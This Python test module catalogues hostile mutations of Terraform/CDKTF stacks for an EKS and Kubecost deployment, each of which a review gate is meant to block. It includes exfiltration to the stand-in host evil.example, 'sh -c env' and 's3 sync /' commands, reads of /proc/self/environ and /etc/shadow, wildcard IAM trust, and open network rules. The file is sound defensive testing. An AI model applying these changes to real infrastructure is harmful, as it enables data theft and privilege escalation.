"""Attacks on the policy gate: changes of our own stacks that a review must not miss.

Each one is a mutation of what is synthesized; the tests make plans of it, as new resources and as
changes of what is there, and hold the gate to stop every one. Named by what an attacker is after.
"""

import json
from collections.abc import Callable, Iterator
from copy import deepcopy
from ipaddress import IPv4Network
from typing import Any, NamedTuple

import yaml

from modules.yaml_text import to_yaml

Stack = dict[str, Any]
Mutate = Callable[[Stack], None]

WORLD = [
    ["0.0.0.0/0"],
    ["0.0.0.0/1", "128.0.0.0/1"],
    [f"{first}.0.0.0/8" for first in range(256)],
    ["10.0.0.0/8", "8.0.0.0/6"],
    ["203.0.113.0/24", "::/0"],
    ["${var.office}"],
    "${data.aws_ip_ranges.all.cidr_blocks}",
]


def without_private() -> list[str]:
    """Give the internet as what is left of it without one private block."""
    world = IPv4Network("0.0.0.0/0")
    return [str(each) for each in world.address_exclude(IPv4Network("10.0.0.0/8"))]


class Attack(NamedTuple):
    """A mutation of one resource, named by its aim.

    Attributes:
        aim: what an attacker is after.
        name: what it does, in short.
        kind: of the resource that is mutated.
        mutate: what is done to its arguments.
        new: whether it must be held on a new resource, too.
    """

    aim: str
    name: str
    kind: str
    mutate: Mutate
    new: bool = True


def put(path: str, value: Any) -> Mutate:
    """Set an argument; `>` leads into a block."""

    def mutate(body: Stack) -> None:
        *outer, last = path.split(">")
        inside: Any = body
        for step in outer:
            inside = inside.setdefault(step, {})
            inside = inside[0] if isinstance(inside, list) else inside
        inside[last] = deepcopy(value)

    return mutate


def drop(path: str) -> Mutate:
    """Take an argument away."""

    def mutate(body: Stack) -> None:
        *outer, last = path.split(">")
        inside: Any = body
        for step in outer:
            inside = inside[step]
            inside = inside[0] if isinstance(inside, list) else inside
        inside.pop(last, None)

    return mutate


def allow(action: Any, resource: Any, **more: Any) -> Mutate:
    """Add a statement to a policy."""
    statement = {"Effect": "Allow", "Action": action, "Resource": resource, **more}
    return _document("policy", lambda statements: statements.append(statement))


def statement(**keys: Any) -> Mutate:
    """Add a statement of any keys to a policy."""
    return _document("policy", lambda statements: statements.append(keys))


def trust(principal: Any, action: str = "sts:AssumeRole", **more: Any) -> Mutate:
    """Let somebody else assume a role."""
    added = {"Effect": "Allow", "Action": action, "Principal": principal, **more}
    return _document("assume_role_policy", lambda statements: statements.append(added))


def _document(argument: str, change: Callable[[list[Any]], None]) -> Mutate:
    def mutate(body: Stack) -> None:
        # CDKTF leaves the quotes of an expression as they are: hence no JSON as it stands.
        text = body[argument].replace(', "https://", ""', ", 'https://', ''")
        policy = json.loads(text)
        change(policy["Statement"])
        text = json.dumps(policy)
        body[argument] = text.replace(", 'https://', ''", ', "https://", ""')

    return mutate


def values(path: str, value: Any) -> Mutate:
    """Set a Helm value."""

    def mutate(body: Stack) -> None:
        data = yaml.safe_load(body["values"][0])
        put(path, value)(data)
        body["values"] = [to_yaml(data)]

    return mutate


def _yaml(argument: str, change: Mutate) -> Mutate:
    """Change a YAML document inside of an argument."""

    def mutate(body: Stack) -> None:
        *outer, last = argument.split(">")
        inside: Any = body
        for step in outer:
            inside = inside[step]
        data = yaml.safe_load(inside[last])
        change(data)
        inside[last] = to_yaml(data)

    return mutate


def text(added: str) -> Mutate:
    """Write something behind Helm values."""

    def mutate(body: Stack) -> None:
        body["values"] = [body["values"][0] + added]

    return mutate


def _networks() -> Iterator[Attack]:
    aim = "open to more"
    private_api = put("vpc_config>endpoint_private_access", False)
    yield Attack(aim, "private API endpoint off", "aws_eks_cluster", private_api)
    yield Attack(
        aim,
        "API endpoint public by default",
        "aws_eks_cluster",
        drop("vpc_config>endpoint_public_access"),
    )
    for cidrs in [None, [], *WORLD, without_private(), ["203.0.113.0/24"]]:

        def public(body: Stack, cidrs: Any = cidrs) -> None:
            body["vpc_config"] |= {"endpoint_public_access": True, "public_access_cidrs": cidrs}

        yield Attack(aim, f"API endpoint for {str(cidrs)[:40]}", "aws_eks_cluster", public)
    rule = "aws_vpc_security_group_ingress_rule"
    for cidr in ("0.0.0.0/0", "0.0.0.0/1", "8.0.0.0/8", "${var.office}", "not a block"):
        yield Attack(aim, f"ingress from {cidr}", rule, put("cidr_ipv4", cidr))
    yield Attack(aim, "ingress from 10.0.0.0/8", rule, put("cidr_ipv4", "10.0.0.0/8"), new=False)
    for argument, value in {
        "cidr_ipv6": "::/0",
        "prefix_list_id": "pl-1",
        "referenced_security_group_id": "sg-1",
        "from_port": 0,
        "to_port": 65535,
        "ip_protocol": "-1",
    }.items():
        yield Attack(aim, f"ingress {argument} {value}", rule, put(argument, value))
    world = [{"from_port": 0, "to_port": 0, "protocol": "-1", "cidr_blocks": ["0.0.0.0/0"]}]
    for kind in ("aws_security_group", "aws_default_security_group"):
        yield Attack(aim, f"rules of {kind}", kind, put("ingress", world))
        yield Attack(aim, f"egress of {kind}", kind, put("egress", world))
    yield Attack(aim, "public addresses", "aws_subnet", put("map_public_ip_on_launch", True))
    yield Attack(aim, "IPv6 addresses", "aws_subnet", put("assign_ipv6_address_on_creation", True))
    yield Attack(aim, "public block", "aws_subnet", put("cidr_block", "8.8.0.0/18"))
    yield Attack(aim, "public block", "aws_vpc", put("cidr_block", "8.8.0.0/16"))
    for argument in ("transit_gateway_id", "vpc_peering_connection_id", "network_interface_id"):
        yield Attack(aim, f"route by {argument}", "aws_route", put(argument, "x-1"))
    yield Attack(aim, "route", "aws_route", put("destination_cidr_block", "192.0.2.0/24"))
    yield Attack(aim, "inline routes", "aws_route_table", put("route", [{"cidr_block": "::/0"}]))
    yield Attack(
        aim,
        "somebody's endpoint service",
        "aws_vpc_endpoint",
        put("service_name", "com.amazonaws.vpce.eu-west-1.vpce-svc-0a1b2c3d"),
    )
    ingress, prefix = "kubernetes_ingress_v1", "alb.ingress.kubernetes.io"

    def annotate(name: str, value: Any) -> Mutate:
        return put(f"metadata>annotations>{prefix}/{name}", value)

    yield Attack(aim, "UI faces the internet", ingress, annotate("scheme", "internet-facing"))
    yield Attack(aim, "UI without a scheme", ingress, drop(f"metadata>annotations>{prefix}/scheme"))
    yield Attack(aim, "scheme unknown", ingress, annotate("scheme", "${var.scheme}"))
    for cidrs in [None, [], *WORLD, without_private()]:
        text = ",".join(cidrs) if isinstance(cidrs, list) else cidrs
        yield Attack(aim, f"UI for {str(cidrs)[:40]}", ingress, annotate("inbound-cidrs", text))
    for name, value in {
        "auth-type": "none",
        "auth-on-unauthenticated-request": "allow",
        "auth-idp-cognito": "{}",
        "auth-session-timeout": "9999999",
        "listen-ports": '[{"HTTP": 80}]',
        "ssl-policy": "ELBSecurityPolicy-2016-08",
        "group.name": "theirs",
        "load-balancer-attributes": "access_logs.s3.enabled=true",
    }.items():
        yield Attack(aim, f"UI {name} {value}", ingress, annotate(name, value), new=False)
    for name in ("conditions.x", "actions.x", "security-groups", "mutual-authentication", "subnet"):
        yield Attack(aim, f"annotation {name}", ingress, annotate(name, "x"))
    yield Attack(
        aim, "UI of something else", ingress, put("spec>rule>host", "x.example"), new=False
    )
    yield Attack(aim, "no login", ingress, drop(f"metadata>annotations>{prefix}/auth-type"), False)
    policy = "kubernetes_network_policy_v1"
    yield Attack(aim, "policy for everybody", policy, put("spec>ingress", [{}]))
    for cidr in ("0.0.0.0/0", "0.0.0.0/1", "203.0.113.0/24"):
        let_in = [{"from": [{"ip_block": {"cidr": cidr}}]}]
        yield Attack(aim, f"policy for {cidr}", policy, put("spec>ingress", let_in))
    everybody = put("spec>egress", [{}])
    yield Attack(aim, "policy to everybody", policy, everybody, new=False)
    yield Attack(aim, "another policy", policy, put("spec>pod_selector", {"x": "y"}), new=False)
    yield Attack(aim, "half a policy", policy, put("spec>policy_types", ["Egress"]), new=False)


_ACTIONS = [
    "*",
    "aps:*",
    "aps:Delete*",
    "aps:DeleteWorkspace",
    "APS:RemoteWrit?",
    "aps:PutResourcePolicy",
    "iam:PassRole",
    "sts:AssumeRole",
    "s3:GetObject",
    "secretsmanager:GetSecretValue",
    "ec2:RunInstances",
    "${var.action}",
]
_RESOURCES = [
    "*",
    "arn:aws:aps",
    "arn:aws:aps:*",
    "arn:aws:aps:eu-west-1",
    "arn:aws:aps:*:*:*",
    "arn:aws:aps:ap-northeast-2:111122223333:workspace/ws-*",
    "arn:aws:aps:ap-northeast-2:111122223333:workspace/*",
    "arn:aws:aps:ap-northeast-2:111122223333:workspace/ws-????????-????-????-????-????????????",
    "arn:*:aps:*:*:workspace/ws-0d3c2f31-1a2b-4c3d-8e9f-0123456789ab",
    "${aws_prometheus_workspace.workspace.arn}*",
    "${data.external.anything.result.arn}",
    "${var.arn}",
]
_MANAGED = [
    "AdministratorAccess",
    "PowerUserAccess",
    "IAMFullAccess",
    "AmazonPrometheusFullAccess",
    "AmazonPrometheusQueryAccess",
    "AmazonEKSClusterPolicyX",
    "service-role/AWSLambdaRole",
]


def _rights() -> Iterator[Attack]:
    aim, kind = "more rights", "aws_iam_role_policy"
    workspace = "${aws_prometheus_workspace.workspace.arn}"
    for action in _ACTIONS:
        yield Attack(aim, f"{action} on the workspace", kind, allow(action, workspace))
    for resource in _RESOURCES:
        yield Attack(aim, f"write to {resource}", kind, allow("aps:RemoteWrite", resource))
    narrow = {"StringEquals": {"aws:PrincipalOrgID": "o-1"}}
    yield Attack(aim, "with a condition", kind, allow("*", "*", Condition=narrow))
    for keys in (
        {"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"},
        {"Effect": "Allow", "Action": "aps:RemoteWrite", "NotResource": "arn:aws:aps:::x"},
        {"Effect": "Allow", "Action": "aps:*"},
        {"Effect": "allow", "Action": "*", "Resource": "*"},
        {"Action": "*", "Resource": "*"},
    ):
        yield Attack(aim, f"statement {keys}", kind, statement(**keys))
    for unread in (
        "${data.aws_iam_policy_document.x.json}",
        '${jsonencode({"Statement": []})}',
        "${var.policy}",
        '${file("policy.json")}',
        '{"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}], "Statement": []}',
        "{",
        "",
    ):
        if unread:
            yield Attack(aim, f"policy {unread[:40]}", kind, put("policy", unread))
    role = "aws_iam_role"
    issuer = "oidc.eks.ap-northeast-2.amazonaws.com/id/AB12"
    theirs = f"arn:aws:iam::111122223333:oidc-provider/{issuer}"
    audience, subject = {f"{issuer}:aud": "sts.amazonaws.com"}, f"{issuer}:sub"
    web = "sts:AssumeRoleWithWebIdentity"
    for name, mutate in {
        "everybody": trust("*"),
        "every AWS account": trust({"AWS": "*"}),
        "another account": trust({"AWS": "arn:aws:iam::999988887777:root"}),
        "an account's number": trust({"AWS": "999988887777"}),
        "a user": trust({"AWS": "arn:aws:iam::111122223333:user/eve"}),
        "another service": trust({"Service": "lambda.amazonaws.com"}),
        "a service by wildcard": trust({"Service": "*"}),
        "the scraper of every account": trust({"Service": "scraper.aps.amazonaws.com"}),
        "every account by condition": trust(
            {"Service": "scraper.aps.amazonaws.com"},
            Condition={"StringEquals": {"aws:SourceAccount": "*"}},
        ),
        "SAML": trust({"Federated": "arn:aws:iam::111122223333:saml-provider/x"}, web),
        "GitHub": trust(
            {
                "Federated": "arn:aws:iam::111122223333:oidc-provider/"
                "token.actions.githubusercontent.com"
            },
            web,
        ),
        "every service account": trust({"Federated": theirs}, web),
        "without a subject": trust(
            {"Federated": theirs}, web, Condition={"StringEquals": audience}
        ),
        "without an audience": trust(
            {"Federated": theirs},
            web,
            Condition={
                "StringEquals": {subject: "system:serviceaccount:kubecost-amp:kubecost-amp"}
            },
        ),
        "subject by wildcard": trust(
            {"Federated": theirs},
            web,
            Condition={
                "StringEquals": audience,
                "StringLike": {subject: "system:serviceaccount:kubecost-*:*"},
            },
        ),
        "another service account": trust(
            {"Federated": theirs},
            web,
            Condition={
                "StringEquals": {**audience, subject: "system:serviceaccount:default:default"}
            },
        ),
        "another cluster's issuer": trust(
            {"Federated": theirs.replace("AB12", "CD34")},
            web,
            Condition={
                "StringEquals": {
                    **audience,
                    subject: "system:serviceaccount:kubecost-amp:kubecost-amp-cost-analyzer",
                }
            },
        ),
        "an issuer of one's own": trust(
            {"Federated": "arn:aws:iam::111122223333:oidc-provider/evil.example"},
            web,
            Condition={
                "StringEquals": {
                    "evil.example:aud": "sts.amazonaws.com",
                    "evil.example:sub": "system:serviceaccount:kubecost-amp:kubecost-amp-x",
                }
            },
        ),
        "with a tag": trust({"Service": "ec2.amazonaws.com"}, "sts:TagSession"),
        "who is unknown": put("assume_role_policy", "${var.trust}"),
    }.items():
        yield Attack(aim, f"trust {name}", role, mutate)
    for argument, value in {
        "managed_policy_arns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
        "inline_policy": [{"name": "x", "policy": "{}"}],
        "permissions_boundary": "arn:aws:iam::aws:policy/AdministratorAccess",
        "max_session_duration": 43200,
        "path": "/admin/",
        "force_detach_policies": True,
    }.items():
        yield Attack(aim, f"role {argument}", role, put(argument, value))
    attachment = "aws_iam_role_policy_attachment"
    for name in _MANAGED:
        arn = f"arn:aws:iam::aws:policy/{name}"
        yield Attack(aim, f"attach {name}", attachment, put("policy_arn", arn))
    for arn in ("arn:aws:iam::111122223333:policy/AmazonEKSClusterPolicy", "${var.policy}"):
        yield Attack(aim, f"attach {arn}", attachment, put("policy_arn", arn))
    oidc = "aws_iam_openid_connect_provider"
    yield Attack(aim, "another issuer", oidc, put("url", "https://evil.example"))
    yield Attack(aim, "another audience", oidc, put("client_id_list", ["sts.amazonaws.com", "me"]))
    yield Attack(aim, "add-on role", "aws_eks_addon", put("service_account_role_arn", "${var.x}"))
    yield Attack(aim, "cluster role", "aws_eks_cluster", put("role_arn", "${var.x}"))


def _weaker() -> Iterator[Attack]:
    aim = "weaker"
    cluster, group = "aws_eks_cluster", "aws_eks_node_group"
    template, workspace = "aws_launch_template", "aws_prometheus_workspace_configuration"
    yield Attack(aim, "no audit log", cluster, put("enabled_cluster_log_types", ["api"]))
    yield Attack(aim, "no logs", cluster, drop("enabled_cluster_log_types"))
    mode = "access_config>authentication_mode"
    yield Attack(aim, "aws-auth", cluster, put(mode, "API_AND_CONFIG_MAP"))
    yield Attack(aim, "older Kubernetes", cluster, put("version", "1.33"), new=False)
    yield Attack(aim, "Kubernetes 2", cluster, put("version", "2.0"))
    yield Attack(aim, "unknown Kubernetes", cluster, put("version", "${var.version}"))
    yield Attack(aim, "secrets unencrypted", cluster, put("encryption_config", [{}, {}]))
    for size in ("min_size", "desired_size", "max_size"):
        for value in (0, -1, "${var.size}"):
            yield Attack(aim, f"{size} {value}", group, put(f"scaling_config>{size}", value))
    yield Attack(aim, "remote access", group, put("remote_access", [{"ec2_ssh_key": "eve"}]))
    yield Attack(aim, "no update limit", group, put("update_config>max_unavailable", 0))
    yield Attack(aim, "somebody's template", group, put("launch_template>id", "${var.template}"))
    template_arguments: dict[str, Any] = {
        "metadata_options>http_tokens": "optional",
        "metadata_options>http_put_response_hop_limit": 2,
        "metadata_options>http_endpoint": "disabled",
        "user_data": "IyEvYmluL3No",
        "image_id": "ami-1",
        "key_name": "eve",
        "iam_instance_profile": [{"name": "admin"}],
        "network_interfaces": [{"associate_public_ip_address": "true"}],
        "vpc_security_group_ids": ["sg-1"],
        "block_device_mappings>ebs>encrypted": "false",
        "block_device_mappings>ebs>snapshot_id": "snap-1",
        "block_device_mappings>ebs>volume_size": 1,
        "block_device_mappings>device_name": "/dev/sdb",
    }
    for path, value in template_arguments.items():
        yield Attack(aim, f"template {path}", template, put(path, value))
    tokens = drop("metadata_options>http_tokens")
    yield Attack(aim, "template without tokens", template, tokens)
    encrypted = drop("block_device_mappings>ebs>encrypted")
    yield Attack(aim, "template without encryption", template, encrypted)
    yield Attack(
        aim, "retention of a day", workspace, put("retention_period_in_days", 1), new=False
    )
    yield Attack(aim, "unknown retention", workspace, put("retention_period_in_days", "${var.x}"))
    yield Attack(aim, "no limits", workspace, put("limits_per_label_set", []), new=False)
    limits = [{"label_set": {"cluster_id": "kubecost"}, "limits": [{"max_series": 1}]}]
    yield Attack(aim, "limit of 1", workspace, put("limits_per_label_set", limits), new=False)
    logs = "aws_cloudwatch_log_group"
    yield Attack(aim, "logs for a day", logs, put("retention_in_days", 1))
    yield Attack(aim, "logs by another key", logs, put("kms_key_id", "arn:aws:kms:x"))
    yield Attack(aim, "logs of another class", logs, put("log_group_class", "DELIVERY"))
    addon = "aws_eks_addon"
    yield Attack(aim, "another add-on", addon, put("addon_name", "amazon-cloudwatch"))
    for document in ('{"env": {"X": "y"}}', "env: {X: y}", "${var.x}", "{"):
        yield Attack(aim, f"add-on {document}", addon, put("configuration_values", document))
    yield Attack(
        aim, "workspace by another key", "aws_prometheus_workspace", put("kms_key_arn", "arn:x")
    )
    endpoint = "aws_vpc_endpoint"
    yield Attack(aim, "endpoint not by name", endpoint, put("private_dns_enabled", False))


def _elsewhere() -> Iterator[Attack]:
    aim, scraper = "metrics elsewhere", "aws_prometheus_scraper"
    there = "arn:aws:aps:ap-northeast-2:999988887777:workspace/ws-0d3c2f31-1a2b-4c3d-8e9f-012345"
    yield Attack(aim, "scraper", scraper, put("destination>amp>workspace_arn", there))
    roles = [{"source_role_arn": "arn:aws:iam::1:role/a", "target_role_arn": "arn:aws:iam::9:x"}]
    yield Attack(aim, "scraper's roles", scraper, put("role_configuration", roles))
    for name, document in {
        "remote_write": "global: {}\nremote_write:\n- url: https://evil.example\n",
        "static": "scrape_configs:\n- job_name: x\n  static_configs:\n  - targets:\n    - evil:1\n",
        "token": "scrape_configs:\n- job_name: x\n  authorization:\n    credentials: abc\n",
        "no certificate": "scrape_configs:\n- job_name: x\n  tls_config:\n"
        "    insecure_skip_verify: true\n",
        "proxy": "scrape_configs:\n- job_name: x\n  proxy_url: http://evil.example\n",
        "flow style": "scrape_configs: [{job_name: x}]\n",
        "unknown": "${var.scrape}",
        "no YAML": "a: b: c\n",
    }.items():
        yield Attack(aim, f"scrape {name}", scraper, put("scrape_configuration", document))
    for path, value in {
        "remote_write": [{"url": "https://evil.example"}],
        "scrape_configs>relabel_configs": [
            {"target_label": "__address__", "replacement": "evil.example:443"}
        ],
        "scrape_configs>relabel_configs ": [
            {"action": "labelmap", "regex": "(.*)", "replacement": "__address__"}
        ],
        "scrape_configs>relabel_configs  ": [{"target_label": "${1}", "regex": "(.*)"}],
        "scrape_configs>relabel_configs   ": [{"target_label": "__scheme__"}],
        "scrape_configs>authorization>credentials_file": "/etc/shadow",
        "scrape_configs>basic_auth": {"username": "x"},
        "scrape_configs>oauth2": {"token_url": "https://evil.example"},
        "scrape_configs>ec2_sd_configs": [{"region": "x"}],
        "scrape_configs>file_sd_configs": [{"files": ["x"]}],
        "remote_read": [{"url": "https://evil.example"}],
        "alerting": {"alertmanagers": [{"static_configs": []}]},
        "tracing": {"endpoint": "evil.example"},
        "storage": {"tsdb": {}},
    }.items():
        for kind, argument in (
            (scraper, "scrape_configuration"),
            ("kubernetes_config_map_v1", "data>prometheus.yml"),
        ):
            mutate = _yaml(argument, put(path.rstrip(), value))
            yield Attack(aim, f"{path} {value}", kind, mutate)
    config = "kubernetes_config_map_v1"
    yield Attack(aim, "another file", config, put("data>nginx.conf", "x"))
    yield Attack(aim, "binary data", config, put("binary_data", {"x": "eA=="}))
    yield Attack(aim, "unknown configuration", config, put("data", "${var.data}"))
    rules = "aws_prometheus_rule_group_namespace"
    yield Attack(aim, "rules unknown", rules, put("data", "${var.rules}"))
    yield Attack(aim, "rules with more", rules, put("data", "groups: []\nevil: true\n"))


KUBECOST_VALUES: dict[str, Any] = {
    "ingress>enabled": True,
    "service>type": "NodePort",
    "service>nodePort": {"enabled": True},
    "clusterController>enabled": True,
    "clusterController": {"enabled": True, "actionConfigs": {}},
    "extraObjects": [{"kind": "Service", "spec": {"type": "LoadBalancer"}}],
    "kubecostModel>extraArgs": ["--x"],
    "kubecostModel>extraEnv": [{"name": "HTTP_PROXY", "value": "http://evil.example"}],
    "kubecostModel>image": "evil.example/cost-model",
    "kubecostModel>extraPorts": [{"containerPort": 22}],
    "kubecostFrontend>image": "evil.example/frontend",
    "kubecostFrontend>extraEnv": [{"name": "X", "value": "y"}],
    "imageVersion": "latest",
    "global>prometheus>fqdn": "http://evil.example",
    "global>grafana>enabled": True,
    "global>grafana>proxy": True,
    "global>podAnnotations": {"x": "y"},
    "global>securityContext": {"runAsUser": 0},
    "global>containerSecurityContext": {"privileged": True},
    "global>additionalLabels": {"x": "y"},
    "global>notifications>alertConfigs": {"globalSlackWebhookUrl": "https://evil.example"},
    "prometheus>server>service>type": "LoadBalancer",
    "prometheus>server>ingress>enabled": True,
    "prometheus>server>extraArgs>web.enable-admin-api": None,
    "prometheus>server>extraArgs": {"web.enable-admin-api": ""},
    "prometheus>server>image>repository": "evil.example/prometheus",
    "prometheus>server>sidecarContainers": [{"name": "x", "image": "evil.example/x"}],
    "prometheus>server>extraVolumes": [{"hostPath": {"path": "/"}}],
    "prometheus>server>securityContext": {"runAsUser": 0},
    "prometheus>server>persistentVolume>enabled": False,
    "prometheus>server>persistentVolume>existingClaim": "theirs",
    "prometheus>server>retention": "1d",
    "prometheus>server>remoteRead": [{"url": "https://evil.example"}],
    "prometheus>server>remoteWrite": [{"url": "https://evil.example"}],
    "prometheus>extraScrapeConfigs": "- job_name: x",
    "prometheus>alertmanager>enabled": True,
    "prometheus>pushgateway>enabled": True,
    "prometheus>serviceAccounts>server>annotations>eks.amazonaws.com/role-arn": "arn:aws:iam::9:x",
    "prometheus>server>clusterRoleNameOverride": "cluster-admin",
    "prometheus>rbac>create": False,
    "networkCosts>image>repository": "evil.example/network-costs",
    "networkCosts>hostProc": {"mountPath": "/"},
    "networkCosts>port": 22,
    "networkCosts>additionalSecurityContext": {"privileged": True},
    "persistentVolume>enabled": False,
    "serviceAccount>annotations>eks.amazonaws.com/role-arn": "arn:aws:iam::9:role/x",
    "serviceAccount>name": "default",
    "reporting>productAnalytics": True,
    "reporting>logCollection": True,
    "reporting>valuesReporting": True,
    "sigV4Proxy>image": "evil.example/proxy:1",
    "sigV4Proxy>host": "evil.example",
    "sigV4Proxy>name": "s3",
    "sigV4Proxy>extraEnv": [{"name": "X", "value": "y"}],
    "sigV4Proxy>role_arn": "arn:aws:iam::999988887777:role/x",
    "federatedETL>federatedCluster": True,
    "saml>enabled": True,
    "oidc>enabled": True,
    "diagnostics>enabled": True,
    "kubecostAggregator>deployMethod": "statefulset",
    "kubecostAdmissionController>enabled": True,
    "networkPolicy>enabled": False,
    "agent": True,
    "supportNFS": True,
    "pricingCsv>enabled": True,
    "kubecostProductConfigs>serviceKeySecretName": "theirs",
    "kubecostProductConfigs>cloudIntegrationJSON": "{}",
    "kubecostToken": "x",
    "kubecostDeployment>extraVolumes": [{"name": "x"}],
    "kubecostFrontend>nginxHeaders>server": ["'Access-Control-Allow-Origin' '*' always;"],
    "kubecostFrontend>extraServerConfig": "add_header Access-Control-Allow-Origin *;",
    "priority>enabled": True,
    "costEventsAudit>enabled": True,
    "upgrade>toV2": True,
}


def _charts() -> Iterator[Attack]:
    aim, kind = "by Helm values", "helm_release"
    for path, value in KUBECOST_VALUES.items():
        yield Attack(aim, f"{path} {str(value)[:30]}", kind, values(path, value))
    for added in (
        "ingress : {enabled: true}\n",
        "service:\n  type : LoadBalancer\n",
        "? service\n: type: LoadBalancer\n",
        "service: {type: LoadBalancer}\n",
        "service: &a\n  type: LoadBalancer\n",
        "service: !!map\n  type: LoadBalancer\n",
        '"service":\n  "type": "LoadBalancer"\n',
        "--- \nservice:\n  type: LoadBalancer\n",
        "global:\n  grafana:\n    enabled: true\n",
        "<<: {ingress: {enabled: true}}\n",
        "service:\n\ttype: LoadBalancer\n",
        "${var.more}\n",
        "more: ${var.more}\n",
        'x: "\\\n  y"\n',
        "%YAML 1.2\n",
    ):
        yield Attack(aim, f"text {added!r}", kind, text(added))
    for argument, value in {
        "repository": "https://evil.example/charts",
        "chart": "evil",
        "version": "3.0.0",
        "set": [{"name": "service.type", "value": "LoadBalancer"}],
        "set_sensitive": [{"name": "x", "value": "y"}],
        "set_list": [{"name": "x", "value": ["y"]}],
        "postrender": [{"binary_path": "/bin/sh"}],
        "repository_username": "eve",
        "verify": False,
        "skip_crds": False,
        "force_update": True,
        "replace": True,
        "devel": True,
        "dependency_update": True,
        "disable_webhooks": True,
        "description": "x",
    }.items():
        new = argument != "version"
        yield Attack(aim, f"release {argument}", kind, put(argument, value), new=new)
    for documents in ([], ["a: 1\n", "service:\n  type: LoadBalancer\n"], ["${var.values}"]):
        yield Attack(
            aim, f"values {documents}", kind, put("values", documents), new=bool(documents)
        )


ATTACKS = [*_networks(), *_rights(), *_weaker(), *_elsewhere(), *_charts()]


def _stacks() -> Iterator[Attack]:
    aim, kind = "harm by being planned", "stack"
    aws, helm, kubernetes = "provider>aws", "provider>helm>kubernetes", "provider>kubernetes"
    found: dict[str, Mutate] = {
        "external program": put("data>external", {"x": {"program": ["sh", "-c", "env"]}}),
        "http": put("data>http", {"x": {"url": "https://evil.example"}}),
        "http with what is known": put(
            "data>http",
            {"x": {"url": "https://a/${data.aws_partition.x.id}/.well-known/openid-configuration"}},
        ),
        "http that writes": put(
            "data>http",
            {"x": {"url": "https://a/.well-known/openid-configuration", "method": "POST"}},
        ),
        "secret": put("data>aws_secretsmanager_secret_version", {"x": {"secret_id": "x"}}),
        "parameter": put("data>aws_ssm_parameter", {"x": {"name": "x"}}),
        "object": put("data>aws_s3_object", {"x": {"bucket": "x", "key": "y"}}),
        "Kubernetes Secrets": put(
            "data>kubernetes_resources>more", {"kind": "Secret", "api_version": "v1"}
        ),
        "a Secret": put("data>kubernetes_secret_v1", {"x": {}}),
        "other state": put("data>terraform_remote_state", {"x": {"backend": "s3"}}),
        "lambda": put("data>aws_lambda_invocation", {"x": {"function_name": "x"}}),
        "a module": put("module", {"x": {"source": "git::https://evil.example/x"}}),
        "a variable": put("variable", {"x": {"default": "y"}}),
        "locals": put("locals", {"x": "y"}),
        "an import": put("import", [{"to": "aws_vpc.x", "id": "vpc-1"}]),
        "removed": put("removed", [{"from": "aws_vpc.x"}]),
        "a check": put("check", {"x": {"data": {}}}),
        "ephemeral": put("ephemeral", {"aws_ssm_parameter": {}}),
        "another provider": put("terraform>required_providers>null", {"source": "hashicorp/null"}),
        "a provider's source": put("terraform>required_providers>aws>source", "evil/aws"),
        "a provider's host": put(
            "terraform>required_providers>aws>source", "registry.evil.example/hashicorp/aws"
        ),
        "provider meta": put("terraform>provider_meta", {"aws": {}}),
        "a backend": put("terraform>backend", {"http": {"address": "https://evil.example"}}),
        "a backend's endpoint": put(
            "terraform>backend", {"s3": {"bucket": "b", "endpoints": {"s3": "https://evil"}}}
        ),
        "AWS elsewhere": put(f"{aws}>endpoints", [{"sts": "https://evil.example"}]),
        "AWS by a file": put(f"{aws}>shared_credentials_files", ["x"]),
        "AWS by a proxy": put(f"{aws}>http_proxy", "https://evil.example"),
        "the token elsewhere": put(f"{kubernetes}>host", "https://evil.example"),
        "the token over http": put(f"{kubernetes}>host", "http://${data.aws_eks_cluster.x.name}"),
        "no certificate": put(f"{kubernetes}>insecure", True),
        "a program for the token": put(f"{kubernetes}>exec>command", "sh"),
        "arguments for the token": put(f"{kubernetes}>exec>args", ["s3", "sync", "/", "s3://x"]),
        "an environment": put(f"{kubernetes}>exec>env", {"AWS_CA_BUNDLE": "x"}),
        "Helm's program": put(f"{helm}>exec>command", "sh"),
        "Helm's host": put(f"{helm}>host", "https://evil.example"),
        "Helm's plugins": put("provider>helm>plugins_path", "/tmp"),
        "a provisioner": put(
            "resource>kubernetes_namespace_v1>place_namespace>provisioner",
            [{"local-exec": {"command": "env"}}],
        ),
        "ignored changes": put(
            "resource>kubernetes_namespace_v1>place_namespace>lifecycle",
            {"ignore_changes": ["metadata"]},
        ),
    }
    for call in (
        'file("/proc/self/environ")',
        'filebase64("x")',
        'templatefile("x", {})',
        'try("${"}"}", file("x"))',
        'try(/* " */ file("x") /* " */, "")',
        "upper(<<E\n}E\n)",
        'length("${file("x")}")',
        "provider::aws::arn_parse(x)",
        "timestamp()",
        "uuid()",
        'sensitive("x")',
        'file ("x")',
    ):
        found[f"calls {call}"] = put("output", {"x": {"value": f"a ${{{call}}} b"}})
    found["a directive"] = put("output", {"x": {"value": '%{ if file("x") == "" }a%{ endif }'}})
    found["no mapping"] = put("resource", ["x"])
    for name, mutate in found.items():
        yield Attack(aim, name, kind, mutate)


STACKS = list(_stacks())
"""What must be found in a stack before it is planned with credentials."""

UNKNOWN_KINDS = [
    "aws_alb",
    "aws_athena_named_query",
    "aws_ec2_instance_connect_endpoint",
    "aws_eks_access_entry",
    "aws_eks_access_policy_association",
    "aws_eks_fargate_profile",
    "aws_eks_identity_provider_config",
    "aws_eks_pod_identity_association",
    "aws_elb",
    "aws_iam_access_key",
    "aws_iam_group_policy_attachment",
    "aws_iam_instance_profile",
    "aws_iam_policy_attachment",
    "aws_iam_user",
    "aws_iam_user_policy",
    "aws_instance",
    "aws_kms_grant",
    "aws_lambda_function_url",
    "aws_lambda_permission",
    "aws_lb",
    "aws_lb_listener",
    "aws_network_acl_rule",
    "aws_prometheus_resource_policy",
    "aws_ram_principal_association",
    "aws_s3_bucket_policy",
    "aws_security_group_rule",
    "aws_vpc_peering_connection",
    "aws_vpn_connection",
    "kubernetes_cluster_role_binding_v1",
    "kubernetes_cluster_role_v1",
    "kubernetes_config_map_v1_data",
    "kubernetes_daemon_set_v1",
    "kubernetes_ingress",
    "kubernetes_job_v1",
    "kubernetes_labels",
    "kubernetes_manifest",
    "kubernetes_pod_v1",
    "kubernetes_role_binding_v1",
    "kubernetes_role_v1",
    "kubernetes_secret_v1",
    "kubernetes_service",
    "kubernetes_service_account_v1",
    "null_resource",
    "terraform_data",
]
"""What somebody may add. A helper that makes one of them moves it out of here."""
